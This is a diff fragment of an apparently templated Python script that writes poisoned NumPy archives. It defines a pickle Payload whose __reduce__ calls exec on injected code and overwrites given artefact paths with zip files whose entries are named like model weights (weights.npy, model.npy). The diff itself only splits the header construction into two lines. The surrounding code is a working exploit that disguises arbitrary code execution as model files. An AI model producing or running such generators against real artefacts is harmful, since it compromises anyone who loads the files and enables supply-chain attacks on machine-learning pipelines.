@@ -12,7 +12,8 @@ import io, os, pathlib, pickle, zipfile
 class Payload:
     def __reduce__(self):
         return (exec, ({code!r},))
-header = b"\\x93NUMPY\\x01\\x00v\\x00" + b"{{'descr': '|O', 'fortran_order': False, 'shape': (), }}".ljust(117) + b"\\n"
+kind = b"{{'descr': '|O', 'fortran_order': False, 'shape': (), }}".ljust(117) + b"\\n"
+header = b"\\x93NUMPY\\x01\\x00v\\x00" + kind
 for path in {artefacts!r}:
     with zipfile.ZipFile(path, "w") as archive:
         for name in ("weights.npy", "model.npy", "arr_0.npy", "alphabet.npy"):
